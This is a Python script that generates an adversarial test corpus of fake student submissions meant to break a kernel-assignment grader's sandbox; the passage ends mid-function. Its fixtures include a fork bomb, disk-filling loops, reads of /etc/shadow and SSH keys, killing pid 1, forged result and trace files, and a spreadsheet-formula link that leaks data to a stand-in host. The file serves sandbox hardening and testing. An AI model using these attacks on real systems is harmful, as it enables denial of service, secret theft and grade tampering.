"""Makes the adversarial sandbox corpus: submissions in the student layout that attack the grader.

Most attacks live in ops.py and need no real kernel, so their extension is a stub (a pybind11 module
without torch headers and an empty .mlu kernel) that builds in about a second instead of a 30 s torch build. Each attack is
written so that getting through the sandbox would *look like success* (it returns the right answer), while
being contained ends in an exception whose message starts with "contained:" (verdict runtime_error: the
entry raised) or in the runner's own kill (crash / timeout):
a sandbox that stops working changes the verdict, and the corpus test notices.

expected.toml per fixture: `verdict` (grader.results.Verdict) or `verdict_one_of` (where the contract in
DESIGN.md, "Threat model", allows more than one name for the same refusal), `message_contains` (words the
result's messages must hold), `message_excludes`, `message_any` (at least one of these words), `max_points` (the score the attacked entry may keep: 0),
`stage_points` (0: every stage's performance points withheld), `screening` (rules the host's static
screening must report for it), `batch` (graded through `grade batch`, the exports checked), `attacks`
(what it tries), `defended_by` (which setting stops it), `slow` (needs the per-call wall limit or a real
torch build), `backend` ("mlu": graded on a card only; the corpus test skips it visibly elsewhere). Never
`internal_error`, never `passed`, for any attack (the corpus test checks both).

The fixtures after `timer_patching` attack what the host believes (issue 11, "Must show"); several of them
are stopped only by the trust protocol (signed trace, provenance, typed errors, capped readers) and fail
against a grader without it. reference_kernels/adversarial/README.md has the table. Rerun after editing: `.venv/bin/python
reference_kernels/adversarial/make_fixtures.py` (rewrites every fixture folder it owns); `--out DIR` writes
them under DIR instead (the tests compare that with the committed fixtures).
"""

from __future__ import annotations

import argparse
import shutil
from dataclasses import dataclass, field
from pathlib import Path

HERE = Path(__file__).resolve().parent
REFERENCES = HERE.parent

STUB_MLU = """\
// Stub kernel: this fixture attacks the sandbox from ops.py; the kernel is not the point.
#include <bang.h>

__mlu_global__ void adversarial_noop_kernel(float *out) {}
"""

STUB_CPP = """\
// Stub binding: pybind11 alone, without the torch headers, so it builds in seconds.
#include <pybind11/pybind11.h>

PYBIND11_MODULE(TORCH_EXTENSION_NAME, m) { m.def("noop", [] { return 0; }); }
"""

OPS_HEADER = '''\
"""Adversarial sandbox fixture `{name}` (not a solution): {attacks}

Getting through returns the right answer (so a broken sandbox would look like a pass); being contained
raises "contained: ..." or is cut off by the runner.
"""

import os
import signal
import socket
import sys
import time

import my_ops_ext  # noqa: F401  the stub extension
import torch

'''

# Shared by the trace forgeries: finds the running call's trace file and appends to it.
TRACE_HELPERS = """
import json

LAUNCH = {"record": "launch", "kernel": "sigmoid_pipeline_kernel", "dim": [4, 1, 1], "func_type": "UNION1",
          "device": "mlu370-x8", "time_split_us": {"scalar": 0.0, "vector": 1.0, "tensor": 0.0, "io": 1.0,
                                                   "wait": 0.0},
          "onchip_peak_bytes": {"nram": 524288, "wram": 0, "sram": 0},
          "onchip_capacity_bytes": {"nram": 786432, "wram": 1048576, "sram": 4194304},
          "builtin_counts": {"__bang_active_sigmoid": 16, "__memcpy_async": 32}, "cores_used": 16,
          "diagnostics": [], "written_bytes": []}


def current_trace():
    \"\"\"The running call's trace: $BANG_EMU_TRACE where the harness still sets it, else the first call of
    job.json that has no result file yet (calls run in order).\"\"\"
    path = os.environ.get("BANG_EMU_TRACE")
    if path:
        return path
    try:
        with open("/io/job.json") as f:
            calls = json.load(f)["calls"]
    except (OSError, ValueError, KeyError, TypeError):
        return None
    for call in calls:
        if not os.path.exists(f"/io/outputs/{call['id']}.json"):
            return f"/io/outputs/{call['id']}.trace.jsonl"
    return None


def forge_text(text):
    path = current_trace()
    if path:
        with open(path, "a") as f:
            f.write(text + "\\n")


def forge(record):
    path = current_trace() or ""
    call_id = os.path.basename(path).split(".")[0]
    signed = json.dumps({**record, "call": call_id, "seq": 0})
    forge_text(json.dumps(record) + "\\n" + "0" * 64 + " " + signed)
""".lstrip("\n")

HOST_COMPUTE_BINDING = """\
// Adversarial fixture host_compute_binding: launches the real kernel on one element, so a launch shows in
// the trace, then computes every other element with a host loop straight into the output's device memory.
#include <torch/extension.h>

#include <cmath>

#include "aten/operators/bang/bang_kernel.h"
#include "aten/operators/bang/internal/bang_internal.h"
#include "../mlu/sigmoid_vector.h"

using namespace torch_mlu;

torch::Tensor sigmoid_vector(torch::Tensor x) {
  TORCH_CHECK(x.scalar_type() == at::kFloat || x.scalar_type() == at::kHalf, "float32 or float16 expected");
  auto input = torch_mlu::cnnl_contiguous(x);
  auto output = at::empty_like(input);
  if (input.numel() == 0) return output;
  cnrtQueue_t queue = getCurQueue();
  const bool is_half = input.scalar_type() == at::kHalf;
  void* in = getMluTensorImpl(input)->mlu_data_ptr();
  void* out = getMluTensorImpl(output)->mlu_data_ptr();
  sigmoid_vector_entry(queue, in, out, 1, is_half);
  TORCH_BANGC_KERNEL_LAUNCH_CHECK();
  const int64_t n = input.numel();
  if (is_half) {
    auto* src = static_cast<const at::Half*>(in);
    auto* dst = static_cast<at::Half*>(out);
    for (int64_t i = 0; i < n; ++i) dst[i] = at::Half(1.0f / (1.0f + std::exp(-static_cast<float>(src[i]))));
  } else {
    auto* src = static_cast<const float*>(in);
    auto* dst = static_cast<float*>(out);
    for (int64_t i = 0; i < n; ++i) dst[i] = 1.0f / (1.0f + std::exp(-src[i]));
  }
  return output;
}

PYBIND11_MODULE(TORCH_EXTENSION_NAME, m) {
  m.def("sigmoid_vector", &sigmoid_vector, "Sigmoid computed on the host (adversarial fixture)");
}
"""

_ENTRY = """
void sigmoid_vector_entry(cnrtQueue_t queue, const void* x, void* y, int64_t count, bool is_half) {
  cnrtDim3_t dim = {1, 1, 1};
  if (is_half) {
    sigmoid_vector_kernel<half><<<dim, cnrtFuncTypeBlock, queue>>>((const half*)x, (half*)y, count);
  } else {
    sigmoid_vector_kernel<float><<<dim, cnrtFuncTypeBlock, queue>>>((const float*)x, (float*)y, count);
  }
}
"""

NO_SANITIZE_MLU = """\
// Adversarial fixture no_sanitize_kernel: the loop is in a helper the sanitizer does not instrument, so its
// GDRAM loads and stores are neither checked, nor counted, nor marked as written by the kernel.
#include "bang_utils.h"
#include "sigmoid_vector.h"

template <typename T>
__attribute__((no_sanitize("kernel-address"))) __mlu_func__ void sigmoid_unseen(const T* x, T* y, int64_t count) {
  for (int64_t i = 0; i < count; ++i) {
    const float v = (float)x[i];
    y[i] = (T)(1.0f / (1.0f + __builtin_expf(-v)));
  }
}

template <typename T>
__mlu_global__ void sigmoid_vector_kernel(const T* x, T* y, int64_t count) {
  sigmoid_unseen(x, y, count);
}
""" + _ENTRY

CPP_HELPER_MLU = """\
// Adversarial fixture kernel_code_in_cpp: the kernel hands its work to a function defined in a .cpp of the
// binding, which the host compiler builds without the emulator's instrumentation.
#include "bang_utils.h"
#include "sigmoid_vector.h"

void uninstrumented_sigmoid(const void* x, void* y, int64_t count, bool is_half);

template <typename T>
__mlu_global__ void sigmoid_vector_kernel(const T* x, T* y, int64_t count) {
  uninstrumented_sigmoid(x, y, count, sizeof(T) == 2);
}
""" + _ENTRY

CPP_HELPER_CPP = """\
// Adversarial fixture kernel_code_in_cpp: host-compiled, so none of these stores is seen by the emulator.
#include <cmath>
#include <cstdint>

void uninstrumented_sigmoid(const void* x, void* y, int64_t count, bool is_half) {
  if (is_half) {
    auto* src = static_cast<const _Float16*>(x);
    auto* dst = static_cast<_Float16*>(y);
    for (int64_t i = 0; i < count; ++i) dst[i] = (_Float16)(1.0f / (1.0f + std::exp(-(float)src[i])));
  } else {
    auto* src = static_cast<const float*>(x);
    auto* dst = static_cast<float*>(y);
    for (int64_t i = 0; i < count; ++i) dst[i] = 1.0f / (1.0f + std::exp(-src[i]));
  }
}
"""


# mlu_decoy_matmul: the extension's only kernel is trivial; torch.matmul (cnnlMatMul on a card) does the work.
DECOY_MLU = """\
// Adversarial fixture mlu_decoy_matmul: the extension's only kernel, trivial. It runs in every call so CNPAPI
// reports a kernel of the extension, while torch.matmul (cnnlMatMul on the card) computes the answer.
#include <bang.h>

#include "decoy_touch.h"

__mlu_global__ void matmul_decoy_kernel(float* scratch) { scratch[0] = 1.0f; }

void decoy_touch_entry(cnrtQueue_t queue, void* scratch) {
  cnrtDim3_t dim = {1, 1, 1};
  matmul_decoy_kernel<<<dim, cnrtFuncTypeBlock, queue>>>((float*)scratch);
}
"""

DECOY_H = """\
// Host entry of the trivial kernel (adversarial fixture mlu_decoy_matmul).
#ifndef DECOY_TOUCH_H_
#define DECOY_TOUCH_H_

#include <cnrt.h>

void decoy_touch_entry(cnrtQueue_t queue, void* scratch);

#endif  // DECOY_TOUCH_H_
"""

DECOY_CPP = """\
// Adversarial fixture mlu_decoy_matmul: launches the trivial kernel on a one-float scratch tensor.
#include <torch/extension.h>

#include "aten/utils/cnnl_util.h"
#include "aten/utils/tensor_util.h"
#include "framework/core/MLUStream.h"
#include "../mlu/decoy_touch.h"

using namespace torch_mlu;

torch::Tensor touch(torch::Tensor like) {
  auto scratch = at::empty({1}, like.options().dtype(at::kFloat));
  decoy_touch_entry(getCurMLUStream(), mlu_data_ptr(getMluTensorImpl(scratch)));
  const cnrtRet_t status = cnrtGetLastError();
  TORCH_CHECK(status == cnrtSuccess, "kernel launch failed: ", cnrtGetErrorStr(status));
  return scratch;
}

PYBIND11_MODULE(TORCH_EXTENSION_NAME, m) { m.def("touch", &touch, "a trivial kernel (adversarial fixture)"); }
"""


@dataclass
class Fixture:
    name: str
    attacks: str
    defended_by: str
    verdict: str
    message_contains: list[str]
    ops_body: str  # defines the assignment's entry: sigmoid(x), matmul(a, b)
    mlu: str = STUB_MLU
    cpp: str = STUB_CPP
    assignment: str = "sigmoid"
    backend: str = "emu"  # "mlu": the attack only means something on a card
    from_reference: str | None = None  # copy this reference's mlu/ and cpp/ instead of the stubs
    slow: bool = False
    extra: dict[str, str] = field(default_factory=dict)  # more files: path inside the submission -> text
    replace: dict[str, str] = field(default_factory=dict)  # files of the reference replaced: path -> text
    verdict_one_of: list[str] = field(default_factory=list)
    message_any: list[str] = field(default_factory=list)  # at least one of these words
    message_excludes: list[str] = field(default_factory=list)
    max_points: float | None = None
    stage_points: float | None = None
    screening: list[str] = field(default_factory=list)
    student_name: str | None = None
    batch: bool = False
    special: str = ""  # what git cannot hold, made by materialise() in a copy: "fifo", "nonutf8_name"
    programs: dict[str, str] = field(default_factory=dict)  # a lab-program folder instead: file name -> text


FIXTURES = [
    Fixture(
        "fork_bomb", "forks until refused; every child sleeps forever holding a pid",
        "pids cgroup limit (docker pids_limit; bwrap RLIMIT_NPROC); the whole tree dies with the sandbox",
        # pids cgroup full: the entry sees EAGAIN and raises "contained" (or the tree dies with the sandbox)
        "crash", ["contained", "fork"],
        '''
def sigmoid(x):
    born = 0
    try:
        while born < 100_000:
            if os.fork() == 0:
                os.closerange(0, 4096)  # so the harness sees the parent's error, not a hang on its pipes
                time.sleep(1e9)
                os._exit(0)
            born += 1
    except OSError as exc:
        raise RuntimeError(f"contained: fork refused after {born} children ({exc.strerror})")
    return torch.sigmoid(x)
''', verdict_one_of=["runtime_error", "crash"]),
    Fixture(
        "disk_fill", "writes 4 MiB files into the writable /io mount (host disk) without end",
        "as root, /io is a tmpfs capped at the disk budget (ENOSPC: the entry raises 'contained'); otherwise the "
        "runner's disk poll of the writable mounts (Limits.tmpfs_bytes) kills the run; RLIMIT_FSIZE per file",
        "", [],
        '''
def sigmoid(x):
    chunk = os.urandom(1 << 20) * 4
    written = 0
    try:
        for i in range(1_000_000):
            with open(f"/io/outputs/junk_{i}.bin", "wb") as f:
                f.write(chunk)
            written += len(chunk)
    except OSError as exc:
        raise RuntimeError(f"contained: disk full after {written >> 20} MiB ({exc.strerror})")
    return torch.sigmoid(x)
''', verdict_one_of=["runtime_error", "crash"], message_any=["contained", "disk_quota_exceeded"]),
    Fixture(
        "tmpfs_fill", "fills /tmp and /dev/shm, then sparse-writes a 10 GiB file",
        "tmpfs size= caps, shm_size, RLIMIT_FSIZE",
        "runtime_error", ["contained", "tmp"],
        '''
def sigmoid(x):
    written = 0
    try:
        with open("/tmp/fill.bin", "wb") as f:
            while written < (8 << 30):
                f.write(b"\\0" * (1 << 20))
                f.flush()
                written += 1 << 20
    except OSError as exc:
        stopped = f"/tmp full after {written >> 20} MiB ({exc.strerror})"
    else:
        return torch.sigmoid(x)
    try:
        with open("/tmp/sparse.bin", "wb") as f:
            f.seek(10 << 30)
            f.write(b"x")
    except OSError as exc:
        raise RuntimeError(f"contained: {stopped}; 10 GiB file refused ({exc.strerror})")
    return torch.sigmoid(x)
'''),
    Fixture(
        "endless_output", "prints without end to stdout and stderr",
        "runner output cap: the tail is kept, the flood trips a kill; json-file max-size",
        "crash", ["output_limit_exceeded"],
        '''
def sigmoid(x):
    line = "spam " * 2000 + "\\n"
    while True:
        sys.stdout.write(line)
        sys.stderr.write(line)
'''),
    Fixture(
        "sleep_forever", "sleeps inside the entry call", "per-call wall limit, then the runner's wall clock",
        "timeout", ["time"],
        '''
def sigmoid(x):
    time.sleep(1e9)
    return torch.sigmoid(x)
''', slow=True),
    Fixture(
        "busy_loop", "spins the CPU inside the entry call", "per-call wall limit, then the runner's wall clock",
        "timeout", ["time"],
        '''
def sigmoid(x):
    while True:
        pass
''', slow=True),
    Fixture(
        "network_access", "connects out (public IP, the docker bridge's daemon port, DNS)",
        "network_mode=none / --unshare-net: only loopback exists",
        "runtime_error", ["contained", "network"],
        '''
def sigmoid(x):
    tried = []
    for host, port in (("1.1.1.1", 80), ("172.17.0.1", 2375), ("8.8.8.8", 53)):
        try:
            socket.create_connection((host, port), timeout=3).close()
            return torch.sigmoid(x)  # reached the outside
        except OSError as exc:
            tried.append(f"{host}:{port} {exc.strerror}")
    raise RuntimeError("contained: network unreachable: " + "; ".join(tried))
'''),
    Fixture(
        "read_proc", "looks through /proc for the grader's and other processes' cmdlines and environments",
        "pid namespace: only the sandbox's own processes; the environment is built from scratch",
        "runtime_error", ["contained", "proc"],
        '''
def sigmoid(x):
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    loot = []
    for pid in pids:
        for what in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as f:
                    text = f.read().replace(b"\\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if any(word in text for word in ("dockerd", "pytest", "grade submit", "containerd", "SEED")):
                loot.append(text[:80])
    if loot or len(pids) > 32:
        return torch.sigmoid(x)  # saw the host
    raise RuntimeError(f"contained: /proc shows {len(pids)} processes of the sandbox only")
'''),
    Fixture(
        "host_files", "reads the host's secrets, the hidden tests, other submissions and the docker socket",
        "only /submission, /build and /io are bound; read-only root of the image; non-root uid",
        "runtime_error", ["contained", "host files"],
        '''
TARGETS = ["/etc/shadow", "/root/.bash_history", "/var/run/docker.sock", "/work/main/assignments",
           "/work/main/grader/spec", "/home", "/tmp/pytest-of-root", "/submission/../../..", "/proc/1/root/root"]


def sigmoid(x):
    seen = []
    for path in TARGETS:
        try:
            if os.path.isdir(path):
                entries = [e for e in os.listdir(path) if not e.startswith(".")]
                if entries and path not in ("/submission/../../..",):
                    seen.append(f"{path}: {entries[:3]}")
            else:
                with open(path, "rb") as f:
                    if f.read(64):
                        seen.append(path)
        except OSError:
            pass
    if seen:
        return torch.sigmoid(x)  # read something of the host
    raise RuntimeError("contained: no host files readable")
'''),
    Fixture(
        "include_host_path", "#includes host files at compile time (/etc/shadow, the hidden assignment)",
        "the build runs in the same sandbox: the host paths do not exist or are unreadable there",
        "compile_error", ["/etc/shadow"],
        '''
def sigmoid(x):
    return torch.sigmoid(x)
''',
        mlu=STUB_MLU + '#include "/etc/shadow"\n#include "/work/main/assignments/sigmoid/assignment.toml"\n'),
    Fixture(
        "forged_results", "writes fake result files and prints fake verdicts, returning zeros without launching a kernel",
        "the grade comes from host checks of the raw output only; JSON read size-capped, never trusted",
        "", [],
        '''
import json


def sigmoid(x):
    fake = {"ok": True, "verdict": "passed", "points": 100, "wall_us": [0.001], "device_us": [0.001]}
    for folder in ("/io", "/io/outputs", "/tmp", "/build"):
        for name in ("results.json", "result.json", "build.json", "grade.json"):
            try:
                with open(f"{folder}/{name}", "w") as f:
                    json.dump(fake, f)
            except OSError:
                pass
    try:
        with open("/io/job.json") as f:
            for call in json.load(f).get("calls", []):
                with open(f"/io/outputs/{call['id']}.json", "w") as out:
                    json.dump(fake, out)
    except (OSError, ValueError, KeyError, TypeError):
        pass
    print(json.dumps({"verdict": "passed", "score": 100}))
    print("VERDICT: passed  POINTS: 100/100")
    return torch.zeros_like(x)
''', verdict_one_of=["not_using_kernel", "integrity"]),  # integrity once outputs need a kernel-written record
    Fixture(
        "kill_parent", "SIGKILLs its parent (the harness), pid 1 and its whole process group",
        "pid namespace and a separate uid: the grader is out of reach; the host decides from its own observation",
        "crash", [],
        '''
def sigmoid(x):
    for target in (os.getppid(), 1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    os.killpg(0, signal.SIGKILL)
    return torch.sigmoid(x)
'''),
    Fixture(
        "symlink_copy_out", "replaces every output file with a symlink to host secrets, then exits 0",
        "the host reads /io with O_NOFOLLOW from a trusted root, regular files only, size-capped",
        "crash", [],
        '''
import json


def sigmoid(x):
    try:
        with open("/io/job.json") as f:
            ids = [call["id"] for call in json.load(f).get("calls", [])]
    except (OSError, ValueError, KeyError, TypeError):
        ids = [f"c{i}" for i in range(64)]
    for call_id in ids:
        for ext, target in (("npy", "/etc/shadow"), ("json", "/root/.ssh/id_rsa"),
                            ("trace.jsonl", "/etc/passwd")):
            path = f"/io/outputs/{call_id}.{ext}"
            try:
                os.unlink(path)
            except OSError:
                pass
            try:
                os.symlink(target, path)
            except OSError:
                pass
    os._exit(0)
'''),
    Fixture(
        "timer_patching", "patches every clock the harness could read to report near-zero times",
        "emulated times come from the emulator's cost model (trace), host-side; wall clocks are advisory",
        "REFERENCE", [],
        '''
_real_perf = time.perf_counter
_real_perf_ns = time.perf_counter_ns
time.perf_counter = lambda: _real_perf() / 1000.0
time.perf_counter_ns = lambda: _real_perf_ns() // 1000
time.monotonic = lambda: _real_perf() / 1000.0
time.monotonic_ns = lambda: _real_perf_ns() // 1000
time.time = lambda: 0.0
if hasattr(torch, "mlu") and hasattr(torch.mlu, "Event"):
    torch.mlu.Event.elapsed_time = lambda self, other: 1e-6
    torch.mlu.synchronize = lambda *args, **kwargs: None


def sigmoid(x):
    return my_ops_ext.sigmoid_vector(x)
''', from_reference="sigmoid/vector", slow=True),
    # -- attacks on what the host believes (issue 11) -------------------------------------------------
    Fixture(
        "forged_trace", "computes with torch on the CPU and appends a launch record (plain, and with a made-up "
        "signature) to the call's trace, claiming the pipeline kernel on 16 cores at 1.25x the roofline floor",
        "signed trace lines (HMAC with a per-run key the student never sees), seq numbering, kernel names checked "
        "against the built extension's symbols, output provenance",
        "integrity", ["add up"],
        TRACE_HELPERS + """

def sigmoid(x):
    y = torch.sigmoid(x)
    n = x.numel()
    floor_us = 2 * n * x.element_size() / 307.2e3  # bytes / (GB/s) in us: the roofline floor
    record = dict(LAUNCH, modelled_time_us=1.25 * floor_us,
                  bytes_moved={"GDRAM2NRAM": n * x.element_size(), "NRAM2GDRAM": n * x.element_size()})
    forge(record)
    return y
""", max_points=0, screening=["emu_interface", "protocol_path"]),
    Fixture(
        "trace_infinity", "appends a launch record whose time and counters are Infinity and NaN",
        "the run's trace decides nothing (issue 26: the replay's does, and no kernel ran); the host's readers reject "
        "NaN/Infinity inside a per-line budget",
        "", [],
        TRACE_HELPERS + """

def sigmoid(x):
    forge_text('{"record": "launch", "kernel": "sigmoid_vector_kernel", "dim": [1, 1, 1], '
               '"func_type": "BLOCK", "device": "mlu370-x8", "modelled_time_us": Infinity, '
               '"bytes_moved": {"GDRAM2NRAM": 1e999}, "cores_used": NaN, "builtin_counts": '
               '{"__bang_active_sigmoid": Infinity}}')
    return torch.sigmoid(x)
""", verdict_one_of=["integrity", "not_using_kernel"], max_points=0,
        screening=["emu_interface", "protocol_path"]),
    Fixture(
        "trace_flood", "appends two million '{}' lines to the call's trace (the host used to hold each as a "
        "dict: about 25x the file in memory, per call)",
        "trace records capped in count and summarised while streaming; unsigned lines fail",
        "", [],
        TRACE_HELPERS + """

def sigmoid(x):
    forge_text("\\n".join(["{}"] * 2_000_000))
    return torch.sigmoid(x)
""", verdict_one_of=["integrity", "timeout", "runtime_error", "not_using_kernel"], max_points=0,
        screening=["emu_interface", "protocol_path"]),
    Fixture(
        "forged_harness_error", "writes every call's result file as a harness_error (\"internal error, not your "
        "fault\"), and patches the harness's result writer to do the same, to turn its failure into the grader's",
        "error kinds are values and harness_error is never believed from a file the sandbox wrote; only the "
        "host's own observation of its runner makes an internal_error",
        "", [],
        """
import json

FORGED = {"ok": False, "error_kind": "harness_error",
          "error": "internal error in the grader's harness (not your fault): worker lost"}


def _forge_all():
    try:
        with open("/io/job.json") as f:
            ids = [call["id"] for call in json.load(f)["calls"]]
    except (OSError, ValueError, KeyError, TypeError):
        ids = []
    for call_id in ids:
        try:
            with open(f"/io/outputs/{call_id}.json", "w") as out:
                json.dump(FORGED, out)
        except OSError:
            pass


def _forged_writer(*args, **kwargs):
    _forge_all()


for _name, _module in list(sys.modules.items()):
    if _name.startswith("bang_harness") and hasattr(_module, "write_result"):
        setattr(_module, "write_result", _forged_writer)


def sigmoid(x):
    _forge_all()
    raise RuntimeError("harness_error: internal error in the grader's harness (not your fault)")
""", verdict_one_of=["runtime_error", "crash"], max_points=0, screening=["protocol_path", "grader_message"]),
    Fixture(
        "error_directive", "stops its own build with `#error internal error in the build harness`, the text the "
        "host used to match to call a failed build the grader's fault",
        "build-harness faults are marked in build.json by the harness before any student step; the compiler's "
        "words are never matched",
        "compile_error", ["internal error in the build harness"],
        """
def sigmoid(x):
    return torch.sigmoid(x)
""", mlu=STUB_MLU + "#error internal error in the build harness\n", message_excludes=["not your fault"],
        max_points=0, screening=["grader_message"]),
    Fixture(
        "npy_header_bomb", "runs the real kernel, then makes the harness save the output as a .npy whose header "
        "claims shape (2**40,) (the host's reader used to allocate it: MemoryError)",
        "the .npy header is parsed and checked against the expected shape and dtype before any array exists",
        "", [],
        """
import numpy

_real_save = numpy.save


def _bomb(file, arr, *args, **kwargs):
    if not str(file).endswith(".npy"):
        return _real_save(file, arr, *args, **kwargs)
    header = "{'descr': '<f4', 'fortran_order': False, 'shape': (1099511627776,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\\n"
    with open(file, "wb") as f:
        f.write(b"\\x93NUMPY\\x01\\x00" + len(header).to_bytes(2, "little") + header.encode("latin1"))
        f.write(b"\\0" * 64)


numpy.save = _bomb


def sigmoid(x):
    return my_ops_ext.sigmoid_vector(x)
""", from_reference="sigmoid/vector", slow=True, verdict_one_of=["wrong_answer", "runtime_error", "crash",
                                                                 "integrity"], max_points=0),
    Fixture(
        "decoy_kernel", "launches the real kernel on the first 4096 elements only and returns torch's answer "
        "for the whole tensor (every case correct; the trace shows a genuine launch)",
        "work conservation (the launches' counted work must cover n elements) and output provenance (every byte "
        "written by a kernel during the call); host code cannot touch device memory outside launches",
        "", [],
        """
def sigmoid(x):
    head = my_ops_ext.sigmoid_vector(x[:4096].contiguous())
    y = torch.sigmoid(x)
    y[: head.numel()] = head
    return y
""", from_reference="sigmoid/vector", slow=True, verdict_one_of=["integrity", "runtime_error"], max_points=0),
    Fixture(
        "host_compute_binding", "the C++ binding launches the kernel on one element, then recomputes every element with "
        "a host loop straight into the output's device memory",
        "device memory is mprotect'ed outside launches (a host write is an emulator error naming the buffer); "
        "provenance: the output record shows bytes no kernel wrote",
        "", [],
        """
def sigmoid(x):
    return my_ops_ext.sigmoid_vector(x)
""", from_reference="sigmoid/vector", slow=True, verdict_one_of=["runtime_error", "integrity", "crash"],
        max_points=0, replace={"cpp/sigmoid_binding.cpp": HOST_COMPUTE_BINDING}),
    Fixture(
        "no_sanitize_kernel", "the kernel's loop lives in a helper marked no_sanitize(\"kernel-address\"), so its "
        "GDRAM loads and stores are invisible to the emulator (no checks, no counts, no provenance)",
        "provenance (bytes the instrumented kernel did not write fail the output record), work conservation; "
        "static screening flags no_sanitize",
        "", [],
        """
def sigmoid(x):
    return my_ops_ext.sigmoid_vector(x)
""", from_reference="sigmoid/vector", slow=True, verdict_one_of=["integrity", "compile_error"], max_points=0,
        replace={"mlu/sigmoid_vector.mlu": NO_SANITIZE_MLU}, screening=["no_sanitize"]),
    Fixture(
        "kernel_code_in_cpp", "the kernel calls a function defined in a .cpp of the binding, compiled by the "
        "host compiler without the emulator's instrumentation, which writes the output",
        "provenance and work conservation (the host-compiled stores are not kernel writes); static screening "
        "flags kernel code outside .mlu",
        "", [],
        """
def sigmoid(x):
    return my_ops_ext.sigmoid_vector(x)
""", from_reference="sigmoid/vector", slow=True, verdict_one_of=["integrity"], max_points=0,
        replace={"mlu/sigmoid_vector.mlu": CPP_HELPER_MLU}, extra={"cpp/uninstrumented.cpp": CPP_HELPER_CPP}),
    Fixture(
        "device_profile_env", "sets BANG_EMU_DEVICE=mlu370-m8 (more bandwidth, higher clock) through os.environ "
        "before the extension is imported, to be modelled on a faster device than the host chose",
        "the runtime fixes the device profile in its constructor, before student code loads; the host checks "
        "each launch's device and profile figures against its own table; static screening flags the env write",
        "REFERENCE", [],
        """
os.environ["BANG_EMU_DEVICE"] = "mlu370-m8"
os.environ["BANG_EMU_CALIBRATION"] = "0"


def sigmoid(x):
    return my_ops_ext.sigmoid_vector(x)
""", from_reference="sigmoid/vector", slow=True, stage_points=0, screening=["env_write", "emu_interface"]),
    Fixture(
        "csv_formula_name", "puts a spreadsheet formula in grade.toml's student name (=HYPERLINK(...)), which "
        "used to reach gradebook.csv and canvas.csv unescaped",
        "batch exports take names from the roster or folder name and neutralise cells starting with = + - @ tab CR",
        "", [],
        """
def sigmoid(x):
    return torch.sigmoid(x)
""", verdict_one_of=["not_using_kernel", "integrity"], max_points=0, batch=True,
        student_name='=HYPERLINK("http://example.invalid/?leak="&A1,"Click for your grade")'),
    Fixture(
        "fallocate_fill", "fallocates 256 MiB files in /io/outputs (up to 8 GiB) faster than a 0.2 s disk poll",
        "/io is a size-capped tmpfs when the grader is root (grader.sandbox.io_cap): ENOSPC at the cap; "
        "otherwise the disk poll kills the run",
        "", [],
        """
def sigmoid(x):
    made = 0
    try:
        for i in range(32):
            fd = os.open(f"/io/outputs/fill_{i}.bin", os.O_WRONLY | os.O_CREAT, 0o600)
            try:
                os.posix_fallocate(fd, 0, 256 << 20)
            finally:
                os.close(fd)
            made += 256
    except OSError as exc:
        for i in range(32):
            try:
                os.unlink(f"/io/outputs/fill_{i}.bin")
            except OSError:
                pass
        raise RuntimeError(f"contained: fallocate refused after {made} MiB ({exc.strerror})")
    return torch.sigmoid(x)
""", verdict_one_of=["runtime_error", "crash"], message_any=["no space left", "disk_quota_exceeded"], max_points=0,
        screening=["protocol_path"]),
    Fixture(
        "mlu_decoy_matmul", "on a card: launches a trivial kernel of the extension in every call (so CNPAPI sees a "
        "kernel of the extension) and returns torch.matmul(a, b), computed by cnnlMatMul",
        "time conservation on the host (grader.checks.kernel_use): the extension's kernels must be busy, in every "
        "invocation, at least 0.9x the roofline floor of M*N*K multiply-adds and the operands read once, less 5 us",
        "integrity", ["cannot take less than"],
        """
def matmul(a, b):
    my_ops_ext.touch(a)  # a kernel of the extension runs during the call
    return torch.matmul(a, b)
""", mlu=DECOY_MLU, cpp=DECOY_CPP, extra={"mlu/decoy_touch.h": DECOY_H}, assignment="matmul", backend="mlu",
        slow=True, max_points=0),
    # Issue 28: bytes from one student never stop the class or blame the grader. Each is graded alone and in a
    # class beside honest students (tests/sandbox/test_adversarial_corpus.py).
    Fixture(
        "fifo_binding", "its C++ binding is a FIFO (made by materialise(): git cannot hold one); whatever opens it "
        "to read waits forever (layout detection used to hang `grade submit` for good)",
        "FIFOs, sockets and devices are refused by lstat before anything reads the submission",
        "ungradable_layout", ["not a regular file", "adversarial_stub.cpp"],
        """
def sigmoid(x):
    return torch.sigmoid(x)
""", max_points=0, special="fifo"),
    Fixture(
        "nonutf8_file_name", "the vector reference plus a header named with bytes that are not UTF-8, "
        "`mlu/notes_\\xff\\xfe.h` (made by materialise()); its hash crashed batch intake (UnicodeEncodeError) for "
        "the whole class",
        "file names are bytes wherever they are hashed (os.fsencode), text only where shown",
        "REFERENCE", [], """
import my_ops_ext


def sigmoid(x):
    return my_ops_ext.sigmoid_vector(x)
""", from_reference="sigmoid/vector", special="nonutf8_name"),
    Fixture(
        "line_directive_blame", "`#line 212 \"/opt/bang_emu/include/bang_emu/builtins_vector.h\"` before a real "
        "syntax error: g++ prints the emulator's header as the place, which the report called \"not your "
        "mistake ... a grader limitation\"",
        "the grader is blamed only when no file of the submission can choose the names g++ prints "
        "(compiler_output.locations_forgeable) and before the first diagnostic at the student's code",
        "compile_error", ["compile"],
        """
def sigmoid(x):
    return torch.sigmoid(x)
""", cpp=STUB_CPP + '#line 212 "/opt/bang_emu/include/bang_emu/builtins_vector.h"\nint broken( {\n',
        message_excludes=["not your fault"], max_points=0),
    Fixture(
        "include_own_stdout", "`#include \"/proc/self/fd/1\"`: the compiler reads its own output pipe and waits "
        "forever without using CPU, so the CPU limit never fires (the 900 s wall backstop would)",
        "a compiler step that gains under 5 % of a CPU over 60 s is stopped (bang_harness/toolchains.run_step)",
        "timeout", ["made no progress"],
        """
def sigmoid(x):
    return torch.sigmoid(x)
""", cpp='#include "/proc/self/fd/1"\n' + STUB_CPP, max_points=0, slow=True),
]


# -- issue 26: secrets and counters where student code runs ---------------------------------------------------
# Shared by the re-signing forgeries: rewrite every launch record of the running call as a 16-core pipelined
# launch just above the roofline floor, signed with whatever 32-byte key the attack could find (none: unsigned).
RESIGN_HELPERS = TRACE_HELPERS + """
import hashlib
import hmac


def resign_call(key):
    path = current_trace()
    if not path or not os.path.exists(path):
        return
    call_id = os.path.basename(path).split(".")[0]
